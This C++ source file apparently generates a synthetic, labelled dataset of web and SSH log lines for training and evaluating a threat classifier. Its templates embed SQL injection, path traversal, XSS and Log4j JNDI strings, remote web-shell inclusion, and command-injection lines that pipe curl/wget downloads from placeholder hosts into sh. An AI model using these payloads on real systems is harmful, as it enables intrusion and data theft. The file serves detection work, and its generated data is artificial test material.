#include "opensoc/dataset.hpp"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <numeric>
#include <sstream>
#include <unordered_set>

#include <nlohmann/json.hpp>

#include "opensoc/extraction.hpp"
#include "opensoc/logparse.hpp"
#include "opensoc/prompting.hpp"

namespace opensoc {

namespace {

using ojson = nlohmann::ordered_json;

// All draws go through raw engine output so sequences are identical across
// standard library implementations.
std::uint64_t draw(Rng& rng, std::uint64_t n) { return rng() % n; }

int between(Rng& rng, int lo, int hi) {
    return lo + static_cast<int>(draw(rng, static_cast<std::uint64_t>(hi - lo + 1)));
}

template <typename T>
const T& pick(Rng& rng, const std::vector<T>& items) {
    return items[draw(rng, items.size())];
}

std::string fmt(const char* format, auto... args) {
    char buf[512];
    std::snprintf(buf, sizeof buf, format, args...);
    return buf;
}

std::string random_ip(Rng& rng) {
    static const std::vector<int> first = {23,  45,  62,  77,  91,  103, 122,
                                           138, 151, 176, 185, 193, 203, 212};
    return fmt("%d.%d.%d.%d", pick(rng, first), between(rng, 0, 255), between(rng, 0, 255),
               between(rng, 1, 254));
}

std::string clf_time(Rng& rng) {
    static const std::vector<std::string> months = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                    "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    auto t = fmt("%02d/%s/2025:%02d:%02d:%02d", between(rng, 1, 28), pick(rng, months).c_str(),
                 between(rng, 0, 23), between(rng, 0, 59), between(rng, 0, 59));
    if (draw(rng, 2) == 0) t += " +0000";
    return t;
}

std::string syslog_prefix(Rng& rng, const char* program) {
    static const std::vector<std::string> months = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                    "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    static const std::vector<std::string> hosts = {"web01", "bastion", "db-primary", "mail",
                                                   "vpn-gw", "app02"};
    return fmt("%s %2d %02d:%02d:%02d %s %s[%d]: ", pick(rng, months).c_str(),
               between(rng, 1, 28), between(rng, 0, 23), between(rng, 0, 59),
               between(rng, 0, 59), pick(rng, hosts).c_str(), program,
               between(rng, 1000, 65000));
}

const std::vector<std::string>& normal_agents() {
    static const std::vector<std::string> agents = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.3 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15",
        "python-requests/2.31.0",
        "curl/8.4.0",
    };
    return agents;
}

const std::vector<std::string>& scanner_agents() {
    static const std::vector<std::string> agents = {
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 zgrab/0.x",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "gobuster/3.6",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "burpsuite",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    };
    return agents;
}

// Mostly ordinary browsers, sometimes an attack tool.
std::string attacker_agent(Rng& rng) {
    return draw(rng, 4) == 0 ? pick(rng, scanner_agents()) : pick(rng, normal_agents());
}

std::string access_line(Rng& rng, const std::string& method, const std::string& target,
                        int status, const std::string& agent,
                        const std::string& referrer = "-") {
    return random_ip(rng) + " - - [" + clf_time(rng) + "] \"" + method + " " + target +
           " HTTP/1.1\" " + std::to_string(status) + " " +
           std::to_string(between(rng, 0, 20000)) + " \"" + referrer + "\" \"" + agent + "\"";
}

std::string get_line(Rng& rng, const std::string& target, const std::string& agent) {
    static const std::vector<int> statuses = {200, 200, 403, 404, 500};
    return access_line(rng, "GET", target, pick(rng, statuses), agent);
}

const std::vector<std::string>& usernames() {
    static const std::vector<std::string> users = {"admin", "test",   "oracle", "ubuntu",
                                                   "guest", "user1",  "deploy", "git",
                                                   "postgres", "support", "jenkins"};
    return users;
}

LogTemplate tmpl(std::string name, std::function<std::string(Rng&)> make) {
    return {std::move(name), std::move(make)};
}

TemplateLibrary build_standard_library() {
    using C = ThreatCategory;
    TemplateLibrary lib;

    // Brute force / credential stuffing
    lib.add(C::BruteForce, tmpl("login-post", [](Rng& r) {
        static const std::vector<std::string> paths = {"/wp-login.php", "/login", "/admin/login",
                                                       "/user/signin", "/api/auth/login",
                                                       "/account/logon"};
        return access_line(r, "POST", pick(r, paths), draw(r, 2) ? 401 : 403,
                           pick(r, normal_agents()));
    }));
    lib.add(C::BruteForce, tmpl("ssh-failed-password", [](Rng& r) {
        std::string user = draw(r, 3) == 0 ? "invalid user " + pick(r, usernames())
                                           : (draw(r, 2) ? "root" : pick(r, usernames()));
        return syslog_prefix(r, "sshd") + "Failed password for " + user + " from " +
               random_ip(r) + " port " + std::to_string(between(r, 1024, 65535)) + " ssh2";
    }));
    lib.add(C::BruteForce, tmpl("ssh-invalid-user", [](Rng& r) {
        return syslog_prefix(r, "sshd") + "Invalid user " + pick(r, usernames()) + " from " +
               random_ip(r) + " port " + std::to_string(between(r, 1024, 65535));
    }));
    lib.add(C::BruteForce, tmpl("pam-auth-failure", [](Rng& r) {
        return syslog_prefix(r, "sshd") +
               "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
               "ruser= rhost=" +
               random_ip(r) + "  user=" + pick(r, usernames());
    }));

    // SQL injection
    static const std::vector<std::string> sqli_paths = {
        "/products.php?id=", "/profile?id=", "/item?cat=", "/news?article=", "/shop/view?pid="};
    lib.add(C::SqlInjection, tmpl("union-select", [](Rng& r) {
        static const std::vector<std::string> payloads = {
            " UNION SELECT username,password FROM users--",
            " UNION ALL SELECT null,version(),null--",
            "%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--"};
        return get_line(r, pick(r, sqli_paths) + std::to_string(between(r, 1, 999)) +
                               pick(r, payloads),
                        attacker_agent(r));
    }));
    lib.add(C::SqlInjection, tmpl("boolean-tautology", [](Rng& r) {
        static const std::vector<std::string> payloads = {" OR 1=1--", "' OR '1'='1",
                                                          " or 2=2#", "'--"};
        return get_line(r, pick(r, sqli_paths) + std::to_string(between(r, 1, 999)) +
                               pick(r, payloads),
                        attacker_agent(r));
    }));
    lib.add(C::SqlInjection, tmpl("encoded-quote", [](Rng& r) {
        return get_line(r, "/search?q=" + pick(r, usernames()) + "%27%20OR%20%271%27%3D%271",
                        attacker_agent(r));
    }));
    lib.add(C::SqlInjection, tmpl("time-based", [](Rng& r) {
        static const std::vector<std::string> payloads = {
            " AND SLEEP(5)--", "' AND BENCHMARK(5000000,MD5(1))--", "; WAITFOR DELAY '0:0:5'--",
            "%20AND%20pg_sleep(10)--"};
        return get_line(r, pick(r, sqli_paths) + std::to_string(between(r, 1, 999)) +
                               pick(r, payloads),
                        attacker_agent(r));
    }));

    // Path / directory traversal
    lib.add(C::PathTraversal, tmpl("dotdot-slash", [](Rng& r) {
        static const std::vector<std::string> targets = {"etc/passwd", "etc/shadow",
                                                         "var/www/.htpasswd", "proc/self/environ"};
        std::string up;
        for (int i = between(r, 2, 6); i > 0; --i) up += "../";
        static const std::vector<std::string> params = {"/download?file=", "/view?doc=",
                                                        "/static/", "/img?src="};
        return get_line(r, pick(r, params) + up + pick(r, targets), attacker_agent(r));
    }));
    lib.add(C::PathTraversal, tmpl("encoded-dotdot", [](Rng& r) {
        static const std::vector<std::string> seps = {"..%2f", "%2e%2e%2f", "%2e%2e/",
                                                      "%252e%252e%252f"};
        const std::string sep = pick(r, seps);
        std::string up;
        for (int i = between(r, 2, 5); i > 0; --i) up += sep;
        return get_line(r, "/assets/" + up + (draw(r, 2) ? "windows/win.ini" : "etc/hosts"),
                        attacker_agent(r));
    }));
    lib.add(C::PathTraversal, tmpl("backslash", [](Rng& r) {
        std::string up;
        for (int i = between(r, 2, 5); i > 0; --i) up += "..\\";
        return get_line(r, "/files?path=" + up + "boot.ini", attacker_agent(r));
    }));

    // Cross-site scripting
    lib.add(C::Xss, tmpl("script-tag", [](Rng& r) {
        static const std::vector<std::string> params = {"/search?q=", "/comment?text=",
                                                        "/guestbook?msg="};
        return get_line(r, pick(r, params) + "<script>alert(" +
                               std::to_string(between(r, 1, 99)) + ")</script>",
                        attacker_agent(r));
    }));
    lib.add(C::Xss, tmpl("encoded-script", [](Rng& r) {
        return get_line(r, "/comment?text=%3Cscript%3Edocument.cookie%3C/script%3E&id=" +
                               std::to_string(between(r, 1, 500)),
                        attacker_agent(r));
    }));
    lib.add(C::Xss, tmpl("event-handler", [](Rng& r) {
        static const std::vector<std::string> payloads = {
            "<img src=x onerror=alert(1)>", "<svg/onload=alert(2)>",
            "<body onload=alert(document.domain)>"};
        return get_line(r, "/profile?name=" + pick(r, payloads), attacker_agent(r));
    }));
    lib.add(C::Xss, tmpl("javascript-uri", [](Rng& r) {
        return get_line(r, "/redirect?next=javascript:alert(" +
                               std::to_string(between(r, 1, 99)) + ")",
                        attacker_agent(r));
    }));

    // Command injection
    lib.add(C::CommandInjection, tmpl("semicolon-cmd", [](Rng& r) {
        static const std::vector<std::string> cmds = {";cat /etc/passwd", ";uname -a",
                                                      "|wget http://203.0.113.7/x.sh",
                                                      "&&curl http://198.51.100.4/s|sh"};
        return get_line(r, "/ping?host=10.0." + std::to_string(between(r, 0, 255)) + "." +
                               std::to_string(between(r, 1, 254)) + pick(r, cmds),
                        attacker_agent(r));
    }));
    lib.add(C::CommandInjection, tmpl("encoded-separator", [](Rng& r) {
        return get_line(r, "/cgi-bin/diag.cgi?target=8.8.8.8%3Bcat%20/etc/passwd&n=" +
                               std::to_string(between(r, 1, 99)),
                        attacker_agent(r));
    }));
    lib.add(C::CommandInjection, tmpl("substitution", [](Rng& r) {
        static const std::vector<std::string> payloads = {"$(whoami)", "$(id)", "`id`",
                                                          "`cat /etc/hostname`"};
        return get_line(r, "/api/exec?arg=" + std::to_string(between(r, 1, 999)) +
                               pick(r, payloads),
                        attacker_agent(r));
    }));

    // Scanners
    lib.add(C::Scanner, tmpl("scanner-ua", [](Rng& r) {
        static const std::vector<std::string> paths = {"/",          "/admin/",   "/.env",
                                                       "/wp-admin/", "/.git/config",
                                                       "/robots.txt", "/server-status",
                                                       "/backup.zip", "/phpmyadmin/"};
        static const std::vector<int> statuses = {200, 301, 403, 404};
        return access_line(r, draw(r, 3) ? "GET" : "HEAD", pick(r, paths), pick(r, statuses),
                           pick(r, scanner_agents()));
    }));
    lib.add(C::Scanner, tmpl("scanner-probe", [](Rng& r) {
        return access_line(r, "GET", "/" + pick(r, usernames()) + ".php", 404,
                           pick(r, scanner_agents()));
    }));
    lib.add(C::Scanner, tmpl("scanner-options", [](Rng& r) {
        return access_line(r, "OPTIONS", "/", 200, pick(r, scanner_agents()));
    }));

    // Log4j / JNDI
    lib.add(C::Log4jJndi, tmpl("jndi-user-agent", [](Rng& r) {
        return access_line(r, "GET", "/", 200,
                           "${jndi:ldap://" + random_ip(r) + ":1389/Exploit}");
    }));
    lib.add(C::Log4jJndi, tmpl("jndi-query", [](Rng& r) {
        static const std::vector<std::string> schemes = {"ldap", "rmi", "dns", "ldaps"};
        return get_line(r, "/?x=${jndi:" + pick(r, schemes) + "://" + random_ip(r) + "/a}",
                        pick(r, normal_agents()));
    }));
    lib.add(C::Log4jJndi, tmpl("jndi-obfuscated", [](Rng& r) {
        return get_line(r, "/api/login?user=${${lower:j}ndi:ldap://" + random_ip(r) + "/a}",
                        pick(r, normal_agents()));
    }));
    lib.add(C::Log4jJndi, tmpl("jndi-encoded", [](Rng& r) {
        return get_line(r, "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F" + random_ip(r) + "%2Fa%7D",
                        pick(r, normal_agents()));
    }));

    // Remote file inclusion
    lib.add(C::RemoteFileInclusion, tmpl("include-http", [](Rng& r) {
        static const std::vector<std::string> params = {"/index.php?page=", "/view.php?file=",
                                                        "/main.php?include=",
                                                        "/render.php?template="};
        static const std::vector<std::string> shells = {"shell.txt?", "c99.txt", "r57.php",
                                                        "payload.txt"};
        return get_line(r, pick(r, params) + "http://" + random_ip(r) + "/" + pick(r, shells),
                        attacker_agent(r));
    }));
    lib.add(C::RemoteFileInclusion, tmpl("include-ftp", [](Rng& r) {
        return get_line(r, "/main.php?inc=ftp://" + random_ip(r) + "/payload.php",
                        attacker_agent(r));
    }));
    lib.add(C::RemoteFileInclusion, tmpl("include-encoded", [](Rng& r) {
        return get_line(r, "/template.php?template=https%3a%2f%2fevil.example%2f" +
                               std::to_string(between(r, 1, 999)) + ".txt",
                        attacker_agent(r));
    }));

    // Suspicious authentication
    lib.add(C::SuspiciousAuth, tmpl("root-password", [](Rng& r) {
        return syslog_prefix(r, "sshd") + "Accepted password for root from " + random_ip(r) +
               " port " + std::to_string(between(r, 1024, 65535)) + " ssh2";
    }));
    lib.add(C::SuspiciousAuth, tmpl("root-publickey", [](Rng& r) {
        return syslog_prefix(r, "sshd") + "Accepted publickey for root from " + random_ip(r) +
               " port " + std::to_string(between(r, 1024, 65535)) + " ssh2: ED25519 SHA256:" +
               fmt("%08llx", static_cast<unsigned long long>(r() & 0xffffffffULL));
    }));
    lib.add(C::SuspiciousAuth, tmpl("off-hours", [](Rng& r) {
        return syslog_prefix(r, "sshd") + "Accepted password for " + pick(r, usernames()) +
               " from " + random_ip(r) + " port " + std::to_string(between(r, 1024, 65535)) +
               " ssh2 (off-hours)";
    }));
    lib.add(C::SuspiciousAuth, tmpl("console-root", [](Rng& r) {
        return syslog_prefix(r, "login") + "ROOT LOGIN on '/dev/tty" +
               std::to_string(between(r, 1, 6)) + "'";
    }));

    // Other / mixed: several indicator families in one line
    lib.add(C::OtherMixed, tmpl("xss-plus-sqli", [](Rng& r) {
        return get_line(r, "/search?q=<script>alert(1)</script>&id=" +
                               std::to_string(between(r, 1, 99)) + " UNION SELECT null,null--",
                        attacker_agent(r));
    }));
    lib.add(C::OtherMixed, tmpl("traversal-plus-jndi", [](Rng& r) {
        return get_line(r, "/download?file=../../etc/passwd&cb=${jndi:ldap://" + random_ip(r) +
                               "/a}",
                        attacker_agent(r));
    }));
    lib.add(C::OtherMixed, tmpl("cmd-plus-rfi", [](Rng& r) {
        return get_line(r, "/tools.php?page=http://" + random_ip(r) + "/x.txt&host=1.1.1.1;cat /etc/passwd",
                        attacker_agent(r));
    }));

    // Benign traffic
    lib.add(C::Benign, tmpl("static-asset", [](Rng& r) {
        static const std::vector<std::string> paths = {"/", "/index.html", "/css/main.css",
                                                       "/js/app.js", "/images/logo.png",
                                                       "/about", "/contact"};
        return access_line(r, "GET", pick(r, paths), draw(r, 4) ? 200 : 304,
                           pick(r, normal_agents()));
    }));
    lib.add(C::Benign, tmpl("catalog-query", [](Rng& r) {
        return access_line(r, "GET", "/products?id=" + std::to_string(between(r, 1, 9999)), 200,
                           pick(r, normal_agents()));
    }));
    lib.add(C::Benign, tmpl("ssh-deploy-key", [](Rng& r) {
        return syslog_prefix(r, "sshd") + "Accepted publickey for deploy from " + random_ip(r) +
               " port " + std::to_string(between(r, 1024, 65535)) + " ssh2";
    }));

    return lib;
}

std::string read_file(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    if (!in) throw IoFailure("cannot read " + path);
    std::ostringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

void write_file(const std::string& path, const std::string& content) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    if (!out) throw IoFailure("cannot write " + path);
    out << content;
    if (!out) throw IoFailure("write failed for " + path);
}

}  // namespace

const TemplateLibrary& TemplateLibrary::standard() {
    static const TemplateLibrary lib = build_standard_library();
    return lib;
}

CategoryCounts reference_counts() {
    using C = ThreatCategory;
    CategoryCounts c{};
    c[index_of(C::BruteForce)] = {90, 10};
    c[index_of(C::SqlInjection)] = {80, 9};
    c[index_of(C::PathTraversal)] = {75, 8};
    c[index_of(C::Xss)] = {55, 6};
    c[index_of(C::CommandInjection)] = {45, 5};
    c[index_of(C::Scanner)] = {45, 5};
    c[index_of(C::Log4jJndi)] = {30, 3};
    c[index_of(C::RemoteFileInclusion)] = {20, 2};
    c[index_of(C::SuspiciousAuth)] = {10, 1};
    c[index_of(C::OtherMixed)] = {0, 1};
    return c;
}

CategoryCounts scaled_counts(int train_total, int eval_total) {
    if (train_total < 0 || eval_total < 0)
        throw UnsatisfiableCounts("split sizes must be non-negative");
    const CategoryCounts base = reference_counts();
    CategoryCounts out{};
    auto scale = [&](int total, auto member) {
        long base_total = 0;
        for (const auto& c : base) base_total += c.*member;
        std::vector<std::pair<long, std::size_t>> remainders;
        int assigned = 0;
        for (std::size_t i = 0; i < base.size(); ++i) {
            const long num = static_cast<long>(base[i].*member) * total;
            out[i].*member = static_cast<int>(num / base_total);
            assigned += out[i].*member;
            if (base[i].*member > 0) remainders.push_back({num % base_total, i});
        }
        // Largest remainder first; ties go to the earlier (larger) category.
        std::stable_sort(remainders.begin(), remainders.end(),
                         [](const auto& a, const auto& b) { return a.first > b.first; });
        for (std::size_t k = 0; assigned < total && !remainders.empty();
             k = (k + 1) % remainders.size(), ++assigned)
            ++(out[remainders[k].second].*member);
    };
    scale(train_total, &SplitCounts::train);
    scale(eval_total, &SplitCounts::eval);
    return out;
}

DatasetSplit generate_dataset(std::uint64_t seed, const CategoryCounts& counts,
                              const TemplateLibrary& templates, const RuleTable& rules) {
    for (auto c : kAllCategories) {
        const auto& n = counts[index_of(c)];
        if (n.train < 0 || n.eval < 0)
            throw UnsatisfiableCounts("negative count for " + std::string(enum_name(c)));
        if (n.train + n.eval > 0 && templates.templates(c).empty())
            throw UnsatisfiableCounts("no log templates for " + std::string(display_name(c)) +
                                      " but " + std::to_string(n.train + n.eval) +
                                      " records requested");
    }

    Rng rng(seed);
    DatasetSplit split;
    split.seed = seed;
    std::unordered_set<std::string> used;
    const auto& tmpl = PromptTemplate::standard();

    auto make_record = [&](ThreatCategory slot) {
        constexpr int kMaxAttempts = 1000;
        const auto& choices = templates.templates(slot);
        for (int attempt = 0; attempt < kMaxAttempts; ++attempt) {
            const auto& t = pick(rng, choices);
            std::string line = t.make(rng);
            if (used.contains(line)) continue;
            ThreatAnalysis truth = classify_entry(parse_line(line), rules);
            if (slot != ThreatCategory::OtherMixed && truth.threat.category != slot) continue;
            used.insert(line);
            ExampleRecord rec;
            rec.instruction = tmpl.system_instruction;
            rec.input = std::move(line);
            rec.output = render_output(truth);
            rec.truth = std::move(truth);
            rec.slot = slot;
            return rec;
        }
        throw UnsatisfiableCounts("could not produce a unique " + std::string(display_name(slot)) +
                                  " line after " + std::to_string(kMaxAttempts) + " attempts");
    };

    for (auto c : kAllCategories) {
        const auto& n = counts[index_of(c)];
        for (int i = 0; i < n.train; ++i) split.train.push_back(make_record(c));
        for (int i = 0; i < n.eval; ++i) split.eval.push_back(make_record(c));
    }

    auto shuffle = [&rng](std::vector<ExampleRecord>& v) {
        for (std::size_t i = v.size(); i > 1; --i) std::swap(v[i - 1], v[draw(rng, i)]);
    };
    shuffle(split.train);
    shuffle(split.eval);
    return split;
}

CategoryCounts count_by_slot(const std::vector<ExampleRecord>& train,
                             const std::vector<ExampleRecord>& eval) {
    CategoryCounts c{};
    for (const auto& r : train) ++c[index_of(r.slot)].train;
    for (const auto& r : eval) ++c[index_of(r.slot)].eval;
    return c;
}

std::string records_to_json(const std::vector<ExampleRecord>& records) {
    ojson arr = ojson::array();
    for (const auto& r : records) {
        ojson o;
        o["instruction"] = r.instruction;
        o["input"] = r.input;
        o["output"] = r.output;
        arr.push_back(std::move(o));
    }
    return arr.dump(2, ' ', false, ojson::error_handler_t::replace) + "\n";
}

std::vector<ExampleRecord> records_from_json(std::string_view json_text) {
    ojson doc;
    try {
        doc = ojson::parse(json_text);
    } catch (const ojson::exception& e) {
        throw MalformedRecord(0, std::string("not valid JSON: ") + e.what());
    }
    if (!doc.is_array()) throw MalformedRecord(0, "dataset file must be a JSON array");

    std::vector<ExampleRecord> out;
    out.reserve(doc.size());
    for (std::size_t i = 0; i < doc.size(); ++i) {
        const auto& o = doc[i];
        if (!o.is_object()) throw MalformedRecord(i, "record is not an object");
        for (const char* key : {"instruction", "input", "output"}) {
            if (!o.contains(key)) throw MalformedRecord(i, std::string("missing key \"") + key + "\"");
            if (!o[key].is_string())
                throw MalformedRecord(i, std::string("key \"") + key + "\" is not a string");
        }
        ExampleRecord r;
        r.instruction = o["instruction"].get<std::string>();
        r.input = o["input"].get<std::string>();
        r.output = o["output"].get<std::string>();
        auto truth = extract_fields(r.output).to_analysis();
        if (!truth) throw MalformedRecord(i, "output is not a complete six-field block");
        r.truth = std::move(*truth);
        r.slot = r.truth.threat.category;
        out.push_back(std::move(r));
    }
    return out;
}

void save_records(const std::string& path, const std::vector<ExampleRecord>& records) {
    write_file(path, records_to_json(records));
}

std::vector<ExampleRecord> load_records(const std::string& path) {
    return records_from_json(read_file(path));
}

void save_split(const std::string& dir, const DatasetSplit& split) {
    std::error_code ec;
    std::filesystem::create_directories(dir, ec);
    if (ec) throw IoFailure("cannot create " + dir + ": " + ec.message());
    const std::filesystem::path base(dir);
    save_records((base / kTrainFile).string(), split.train);
    save_records((base / kEvalFile).string(), split.eval);
}

DatasetSplit load_split(const std::string& dir) {
    const std::filesystem::path base(dir);
    DatasetSplit s;
    s.train = load_records((base / kTrainFile).string());
    s.eval = load_records((base / kEvalFile).string());
    return s;
}

}  // namespace opensoc
